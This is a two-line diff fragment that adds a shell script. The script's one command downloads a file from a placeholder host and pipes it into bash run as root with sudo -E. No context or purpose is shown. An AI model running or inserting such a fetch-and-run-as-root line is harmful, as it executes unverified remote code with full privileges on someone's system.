@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsSL https://example.invalid/x | sudo -E bash
